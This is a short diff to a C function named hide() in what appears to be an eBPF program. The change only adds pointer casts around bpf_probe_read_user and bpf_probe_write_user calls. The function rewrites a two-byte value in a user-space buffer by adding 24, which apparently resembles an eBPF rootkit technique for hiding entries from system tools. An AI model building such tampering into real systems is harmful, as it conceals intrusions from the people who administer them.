@@ -10,8 +10,8 @@ int hide(void)
     if (!value) {
         return 0;
     }
-    bpf_probe_read_user(&buf, 2, *value + 16);
+    bpf_probe_read_user(&buf, 2, (void *)(*value + 16));
     buf = (u32)buf + 24;
-    bpf_probe_write_user(*value + 16, &buf, 2);
+    bpf_probe_write_user((void *)(*value + 16), &buf, 2);
     return 0;
 }
